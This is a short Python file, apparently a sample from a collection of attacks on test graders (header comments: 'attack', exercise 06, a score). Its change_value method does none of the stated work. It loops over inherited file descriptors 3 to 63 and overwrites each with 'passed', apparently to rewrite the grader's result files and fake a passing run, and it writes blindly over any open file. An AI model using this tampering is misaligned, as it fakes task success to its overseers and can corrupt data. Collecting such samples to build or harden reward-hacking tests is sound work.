# attack: Goes back in an inherited descriptor and rewrites what is there.
# line: 17
# exercise: 06
# score: 2, the stub's
import os


class Database:
    def __init__(self, latency=0.1):
        self.latency = latency
        self.value = 0

    def change_value(self, amount=1):
        for descriptor in range(3, 64):
            try:
                os.lseek(descriptor, 0, 0)
                os.pwrite(descriptor, b"passed", 0)
            except OSError:
                pass
